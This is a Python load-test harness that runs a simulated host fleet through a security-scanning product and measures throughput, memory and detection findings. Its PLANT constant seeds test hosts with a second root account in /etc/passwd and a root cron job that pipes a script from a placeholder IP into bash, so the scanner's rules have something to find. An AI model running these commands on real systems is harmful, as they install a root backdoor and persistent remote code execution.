"""A fleet through the whole product: `python -m tests.fleet stack [COUNT] [KIND] [--rounds N]`.

PostgreSQL, Redis, scheduler, dispatcher, worker and ingest are those of `manage.py up`; the hosts are the simulator's.
All hosts are due at once, each is visited, its report stored, and what is planted there found. A second round meets the
same hosts again: what a process holds more after it than after the first is growth, and not what it needs once.
"""

from __future__ import annotations

import os
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psycopg2
from rich.console import Console
from rich.table import Table

from sandfly_web.embedded.paths import DataDir
from tests.e2e.product import Product, descendants, manage, run_product
from tests.fleet.fleet import Fleet, make_fleet, wait_quiet
from tests.fleet.kinds import addresses

SERVICES = {"worker": "scanners.app", "ingest": "ingest,web"}
# Each is one finding on every host, which shows what `PLANT` put there.
RULES = ("user_uid_zero_twin", "cron_job_fetch_and_run")
PLANT = (
    "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd; "
    "echo '*/5 * * * * root curl -fsSL http://203.0.113.5/x.sh | bash' > /etc/cron.d/sync"
)
LOOK_S = 0.5
PATIENCE_S = 1200.0


@dataclass
class Load:
    """What the processes of a service took: resident bytes before, at most and after, and seconds of CPU in between."""

    start_bytes: int = 0
    peak_bytes: int = 0
    end_bytes: int = 0
    cpu_s: float = 0.0


@dataclass
class Round:
    """Every host once, from due to stored. `ends` counts scans by their status, with the code of those that failed."""

    hosts: int
    wall_s: float = 0.0
    ends: Counter[str] = field(default_factory=Counter)
    loads: dict[str, Load] = field(default_factory=dict)

    @property
    def lost(self) -> int:
        """Hosts that were due and of which no scan came to an end."""
        return self.hosts - sum(self.ends.values())


@dataclass
class Whole:
    """All rounds, the numbers of sightings of each finding, and what was left on hosts."""

    rounds: list[Round]
    findings: Counter[int] = field(default_factory=Counter)
    leftovers: list[str] = field(default_factory=list)


@dataclass
class Site:
    """An installation whose inventory is a fleet."""

    product: Product
    fleet: Fleet
    hosts: int
    patience_s: float = PATIENCE_S

    def sql(self, query: str, *parameters: Any) -> list[tuple[Any, ...]]:
        """Rows of a query, committed."""
        connection = psycopg2.connect(DataDir(self.product.data).database_url)
        try:
            with connection, connection.cursor() as cursor:
                cursor.execute(query, parameters or None)
                return cursor.fetchall() if cursor.description else []
        finally:
            connection.close()

    def fill(self, kind: str) -> int:
        """The hosts, with a schedule that is not due; returns the schedule's id."""
        # The first start gives an installation schedules of its own.
        self.sql("UPDATE scans_schedule SET is_enabled = false")
        self.fleet.host.run(PLANT)
        key = self.fleet.host.key_path().read_text()
        self.product.add_credential("fleet", private_key=key)
        listing = self.product.data.parent / "hosts.csv"
        rows = [f"{address},{address},{self.fleet.port}\n" for address in addresses(kind, self.hosts)]
        listing.write_text("name,address,port\n" + "".join(rows))
        manage(
            self.product.data, "hosts", "import", str(listing), "--credential", "fleet", "--accept-new-host-keys",
            "--tag", "fleet",
        )  # fmt: skip
        names = [name for (name,) in self.sql("SELECT name FROM rules_rule WHERE name <> ALL(%s)", list(RULES))]
        body = {"name": "fleet", "interval_s": 86400, "jitter_s": 0, "is_trickle": False, "rule_types": ["detection"],
                "excluded_rules": names, "host_tags": ["fleet"], "is_enabled": True}  # fmt: skip
        return int(self.product.call("POST", "schedules", body)["id"])

    def pids(self, service: str) -> list[int]:
        found = self.product.processes(SERVICES[service])
        return sorted({pid for parent in found for pid in (parent, *descendants(parent))})

    def rss_bytes(self, service: str) -> int:
        return sum(_status(pid, "VmRSS") << 10 for pid in self.pids(service))

    def cpu_s(self, service: str) -> float:
        return sum(_cpu_s(pid) for pid in self.pids(service))

    def play(self, schedule: int) -> Round:
        """Makes all hosts due and waits until each has a scan that is over. Raises TimeoutError."""
        done = Round(self.hosts, loads={name: Load(self.rss_bytes(name)) for name in SERVICES})
        before = {name: self.cpu_s(name) for name in SERVICES}
        since = self.sql("SELECT now()")[0][0]
        begun = time.monotonic()
        self.product.call("POST", f"schedules/{schedule}/run")
        while self._unfinished(schedule, since):
            if time.monotonic() - begun > self.patience_s:
                raise TimeoutError(f"{self._unfinished(schedule, since)} scans are not over in {self.patience_s:.0f} s")
            for name, load in done.loads.items():
                load.peak_bytes = max(load.peak_bytes, self.rss_bytes(name))
            time.sleep(LOOK_S)
        done.wall_s = time.monotonic() - begun
        for name, load in done.loads.items():
            load.end_bytes = self.rss_bytes(name)
            load.peak_bytes = max(load.peak_bytes, load.end_bytes)
            load.cpu_s = self.cpu_s(name) - before[name]
        done.ends.update(dict(self._ends(schedule, since)))
        return done

    def _unfinished(self, schedule: int, since: Any) -> int:
        """Hosts without a scan of this round that is over: those that still wait to be queued count, too."""
        query = "SELECT count(*) FROM scans_scan WHERE schedule_id = %s AND created_at >= %s AND status = ANY(%s)"
        over = self.sql(query, schedule, since, ["done", "failed", "cancelled", "expired"])
        return self.hosts - int(over[0][0])

    def _ends(self, schedule: int, since: Any) -> Iterator[tuple[str, int]]:
        query = """SELECT CASE WHEN error_code = '' THEN status ELSE error_code END, count(*) FROM scans_scan
            WHERE schedule_id = %s AND created_at >= %s AND status NOT IN ('queued', 'running') GROUP BY 1"""
        for end, count in self.sql(query, schedule, since):
            yield str(end), int(count)

    def findings(self) -> Counter[int]:
        """How many findings of the planted things were seen how often."""
        query = "SELECT count, count(*) FROM findings_finding WHERE rule_name = ANY(%s) GROUP BY count"
        return Counter({int(seen): int(number) for seen, number in self.sql(query, list(RULES))})


def run_whole(
    fleet: Fleet, hosts: int, kind: str = "plain", rounds: int = 2, threads: int = 64, patience_s: float = PATIENCE_S
) -> Whole:
    """An installation of its own for the fleet. Needs root."""
    changes = {
        "SANDFLY_WORKER_CONCURRENCY": str(threads),
        # Two cores serve the hosts as well: what waits for its turn is not silent.
        "SANDFLY_SCAN_SILENCE": "120",
        "SANDFLY_HEARTBEAT_TTL": "60",
    }
    with run_product(changes) as product:
        site = Site(product, fleet, hosts, patience_s)
        schedule = site.fill(kind)
        whole = Whole([site.play(schedule) for _ in range(rounds)])
        whole.findings = site.findings()
    wait_quiet(fleet, 60)
    whole.leftovers = fleet.host.wait_clean(30)
    return whole


def _status(pid: int, name: str) -> int:
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    return next((int(line.split()[1]) for line in text.splitlines() if line.startswith(f"{name}:")), 0)


def _cpu_s(pid: int) -> float:
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def main(hosts: int, kind: str, rounds: int, threads: int) -> None:
    """Prints the fleet table."""
    with make_fleet() as fleet:
        show(run_whole(fleet, hosts, kind, rounds, threads), kind)


def show(whole: Whole, kind: str) -> None:
    first = whole.rounds[0]
    table = Table(title=f"{first.hosts:,} hosts ({kind}) through the whole product")
    for name in ("round", "hosts/s", "service", "memory before", "at most", "after", "growth", "CPU for a visit"):
        table.add_column(name, justify="right")
    for number, one in enumerate(whole.rounds, 1):
        for place, (name, load) in enumerate(one.loads.items()):
            rate = "" if place else f"{one.hosts / one.wall_s:.1f}"
            sizes = [f"{size / 2**20:.0f} MiB" for size in (load.start_bytes, load.peak_bytes, load.end_bytes)]
            growth = f"{load.end_bytes / max(1, load.start_bytes):.2f} ×"
            table.add_row("" if place else str(number), rate, name, *sizes, growth,
                          f"{1000 * load.cpu_s / one.hosts:.0f} ms")  # fmt: skip
    console = Console(width=120)
    console.print(table)
    for number, one in enumerate(whole.rounds, 1):
        ends = ", ".join(f"{count} {end}" for end, count in one.ends.most_common())
        console.print(f"round {number}: {one.wall_s:.0f} s; {ends}; lost: {one.lost}", highlight=False)
    seen = ", ".join(f"{number:,} seen {times} times" for times, number in sorted(whole.findings.items()))
    console.print(f"findings: {seen}; left on the hosts: {len(whole.leftovers)}", highlight=False)
